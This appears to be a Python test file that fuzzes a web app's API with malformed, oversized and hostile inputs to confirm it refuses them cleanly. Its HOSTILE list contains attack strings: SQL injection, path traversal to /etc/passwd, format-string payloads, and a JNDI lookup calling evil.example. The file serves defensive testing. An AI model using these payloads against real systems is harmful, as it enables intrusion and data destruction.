"""Input that no page sends: broken, huge, deep, invisible; always turned down in words."""

from __future__ import annotations

import json
from itertools import product
from typing import Any
from urllib.parse import quote

import pytest

LIMIT = 256 * 1024
DEEP = 40_000
BROKEN = {
    "half": b'{"name": "An',
    "not text": b"\xff\xfe\x00",
    "deep lists": b"[" * DEEP + b"]" * DEEP,
    "deep objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "null": b"null",
    "a list": b"[]",
    "a text": b'"x"',
    "a number": b"1e999",
    "not a number": b'{"number": NaN, "body": {"boxes": []}}',
    "a number of 200000 digits": b'{"number": ' + b"9" * 200_000 + b', "body": {}}',
}
OTHERWISE = {
    "nothing": b"",
    "no fields": b"{}",
    "other fields": b'{"constructor": 1, "__proto__": {"x": 1}}',
}
HOSTILE = (
    "\0",
    "a\0b",
    "\ud800",
    "a\udfffb",
    "\u202e\u200b\ufeff",
    "x" * 100_000,
    "9" * 5000,
    "../../../etc/passwd",
    "a/../b",
    "%00",
    "{0.__class__}%s%n",
    "'; DROP TABLE people_person; --",
    "${jndi:ldap://evil.example/a}",
)
ALL_OPTIONAL = ("/organise/panels", "/organise/invitations", "/organise/tasks")
NO_BODY_NEEDED = "/tasks/{task}/batch"
NO_PLACES = (
    "-1",
    "1e9",
    "9" * 30,
    "0001-01-01T00:00:00+23:59~" + "0" * 32,
    "9999-12-31T23:59:59-23:59~" + "0" * 32,
    "2026-01-01~" + "0" * 32,
)
# What is sent where texts and numbers go, and by whom; {} is the hostile text.
TEXTS = {
    ("nobody", "POST", "/accounts"): [
        {"name": "{}", "password": "seven green lobsters"},
        {"name": "Eve", "password": "{}"},
        {"name": "Eve", "password": "seven green lobsters", "email": "{}@example.org"},
        {"name": "Eve", "password": "seven green lobsters", "invitation": "{}"},
    ],
    ("nobody", "POST", "/session"): [
        {"login": "{}", "password": "x"},
        {"login": "{}@example.org", "password": "{}"},
    ],
    ("nobody", "POST", "/password-resets"): [{"email": "{}"}],
    ("nobody", "POST", "/password-resets/confirm"): [
        {"person": "{}", "token": "a-b", "password": "seven green lobsters"},
        {"person": "0" * 32, "token": "{}", "password": "{}"},
    ],
    ("nobody", "POST", "/panel-tokens"): [
        {"panel": "{}", "person": "W1"},
        {"panel": "mturk", "person": "{}", "study": "{}", "session": "{}"},
    ],
    ("guest", "POST", "/tasks/annotate/consent"): [{"version": "{}"}],
    ("guest", "PUT", "/assignments/{assignment}/draft"): [
        {"number": 1, "body": {"boxes": [{"type": "{}", "attributes": ["{}"], "x0": 0, "y0": 0,
                                          "x1": 9, "y1": 9}], "nothing": False}},
        {"number": 1, "body": {"{}": "{}", "boxes": "{}"}},
    ],
    ("guest", "POST", "/assignments/{assignment}/answer"): [
        {"key": "{}", "body": {}},
        {"key": "00000000-0000-4000-8000-000000000001", "body": {"boxes": [
            {"type": "{}", "attributes": ["{}"], "x0": 0, "y0": 0, "x1": 9, "y1": 9}]}},
    ],
    ("guest", "POST", "/batches/{batch}/forms/difficulty"): [
        {"answers": {"{}": 1}, "remark": "{}"},
        {"answers": {}, "remark": "{}"},
    ],
    ("organiser", "POST", "/organise/people/{person}/exclusion"): [
        {"excluded": True, "why": "{}"}],
    ("organiser", "PUT", "/organise/items/{item}/control"): [
        {"expected": {"types": ["{}", "claw"]}}, {"expected": {"types": ["claw {}"]}},
        {"expected": {"{}": "{}"}},
    ],
    ("organiser", "PATCH", "/organise/tasks/annotate"): [
        {"title": "{}"}, {"method": "{}"}, {"consent": "{}"}, {"instructions": "a {}"},
        {"forms": ["{}"]},
    ],
    ("organiser", "POST", "/organise/preview"): [{"markdown": "{}"}],
    ("organiser", "POST", "/organise/invitations"): [{"note": "{}"}, {"role": "{}"}],
    ("organiser", "PUT", "/organise/panels/list"): [
        {"person_parameter": "{}", "completed_code": "{}"},
        {"completion_url": "https://example.org/{{code}}{}"},
    ],
    ("organiser", "POST", "/organise/query"): [{"expression": "{}"}],
}  # fmt: skip
PLACES = {
    "nobody": ["/invitations/{}"],
    "guest": [
        "/tasks/{}", "/batches/{}", "/forms/{}", "/tasks/{}/words",
    ],
    "organiser": [
        "/organise/overview?task={}", "/organise/people?task={}", "/organise/people?after={}",
        "/organise/people?limit={}", "/organise/items?task={}", "/organise/items?after={}",
        "/organise/export?task={}", "/organise/export?format={}", "/organise/panels/{}",
        "/organise/analysis?limit={}",
    ],
}  # fmt: skip


def filled(value: Any, text: str) -> Any:
    """The body with the text at each {}, names of fields included."""
    if isinstance(value, str):
        return value.replace("{{", "\1").replace("}}", "\2").replace("{}", text).replace(
            "\1", "{").replace("\2", "}")  # fmt: skip
    if isinstance(value, list):
        return [filled(one, text) for one in value]
    if isinstance(value, dict):
        return {filled(name, text): filled(one, text) for name, one in value.items()}
    return value


def require_answered(answer: Any, *what: object) -> None:
    """Checks that nothing broke, and that a refusal is one of ours, with words for the person."""
    assert answer.status_code < 500, what
    if answer.status_code >= 400:
        error = answer.json()["error"]
        assert error["code"] != "fault", what
        assert len(error["message"]) > 5, what


def test_hostile_texts_are_kept_as_text_or_turned_down(cast: Any) -> None:
    for (role, verb, path), bodies in TEXTS.items():
        for body, text in product(bodies, HOSTILE):
            with cast.people[role].passing():
                answer = cast.people[role].ask(verb, cast.path(path), filled(body, text))
                require_answered(answer, verb, path, body, text[:40])


def test_hostile_addresses_lead_nowhere(cast: Any) -> None:
    for role, place in ((role, place) for role, places in PLACES.items() for place in places):
        for text in (*HOSTILE, *NO_PLACES):
            written = quote(text.encode("utf-8", "surrogatepass"), safe="")[:3000]
            with cast.people[role].passing():
                answer = cast.people[role].ask("GET", place.format(written))
                require_answered(answer, place, text[:40])
                b"".join(answer)


def send(somebody: Any, verb: str, path: str, body: bytes, kind: str = "application/json") -> Any:
    client = somebody.browser.client
    token = client.cookies["netgloss_csrf"].value
    return client.generic(verb, f"/api{path}", body, kind, headers={"X-CSRF-Token": token})


def asker(cast: Any, path: str) -> Any:
    """Somebody who may ask for the path."""
    return cast.people["organiser" if path.startswith("/organise") else "guest"]


def bodied(cast: Any) -> list[tuple[str, str]]:
    """Verb and path of every operation that takes a body."""
    from netgloss.server.api import api

    return [
        (verb.upper(), path.removeprefix("/api"))
        for path, verbs in api.get_openapi_schema()["paths"].items()
        for verb, operation in verbs.items()
        if "requestBody" in operation
    ]


def test_a_body_that_is_no_json_object_is_said_to_be_none(cast: Any) -> None:
    for verb, path in bodied(cast):
        for name, body in BROKEN.items():
            answer = send(asker(cast, path), verb, cast.path(path), body)
            assert answer.status_code == 400, (verb, path, name)
            assert answer.json()["error"]["code"] == "unreadable"


def test_json_of_another_shape_is_turned_down_in_words(cast: Any) -> None:
    for verb, path in bodied(cast):
        for name, body in OTHERWISE.items():
            with asker(cast, path).passing():
                answer = send(asker(cast, path), verb, cast.path(path), body)
                require_answered(answer, verb, path)
                may_be_empty = path.startswith(ALL_OPTIONAL) and name != "nothing"
                may_be_empty |= path == NO_BODY_NEEDED  # what is wished counts for a new batch only
                assert answer.status_code == 422 or may_be_empty, (verb, path, name)


def test_a_body_over_the_limit_is_not_read(cast: Any) -> None:
    for verb, path in bodied(cast):
        for kind in ("application/json", "application/x-www-form-urlencoded", "text/plain"):
            body = b'{"x": "' + b"y" * LIMIT + b'"}'
            answer = send(asker(cast, path), verb, cast.path(path), body, kind)
            assert answer.status_code == 413, (verb, path, kind)
            assert answer.json()["error"]["code"] == "too_large"


def test_numbers_and_lists_without_bounds_are_turned_down(cast: Any) -> None:
    guest, path = cast.people["guest"], cast.path("/assignments/{assignment}")
    good = {"type": "a", "attributes": ["b"], "x0": 0, "y0": 0, "x1": 9, "y1": 9}
    key = "00000000-0000-4000-8000-000000000001"
    for boxes in (
        [good | {"x0": 1e308}],
        [good | {"x0": 10**400}],
        [good | {"x0": True}],
        [good | {"attributes": ["b"] * 1000}],
        [{}] * 5000,
    ):
        body = {"boxes": boxes}
        for verb, place, sent in (
            ("PUT", f"{path}/draft", {"number": 1, "body": body}),
            ("POST", f"{path}/answer", {"key": key, "body": body}),
        ):
            answer = send(guest, verb, place, json.dumps(sent).encode())
            assert answer.status_code == 422, answer.content
            assert answer.json()["error"]["where"].startswith("boxes")


def test_a_drafts_number_is_a_positive_integer_that_the_database_holds(cast: Any) -> None:
    path = cast.path("/assignments/{assignment}/draft")
    for number in ("0", "-1", "2147483648", "1e999", "1.5", '"x"', "null"):
        body = f'{{"number": {number}, "body": {{}}}}'.encode()
        answer = send(cast.people["guest"], "PUT", path, body)
        assert answer.status_code == 422, (number, answer.content)
    assert send(cast.people["guest"], "PUT", path, b'{"number": 1, "body": {}}').status_code == 200


def test_the_log_says_what_went_wrong_and_not_at_which_address(
    cast: Any, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from netgloss.server.logs import JsonLines
    from netgloss.server.people import invitations

    def fail(_token: str) -> None:
        raise RuntimeError("broken")

    monkeypatch.setattr(invitations, "find_invitation", fail)
    cast.people["nobody"].browser.client.raise_request_exception = False
    assert cast.people["nobody"].ask("GET", "/invitations/a-secret-token").status_code == 500
    lines = [json.loads(JsonLines().format(record)) for record in caplog.records]
    [line] = [line for line in lines if line["logger"] == "django.request"]
    assert line["event"] == "Internal Server Error"
    assert "a-secret-token" not in json.dumps(line)
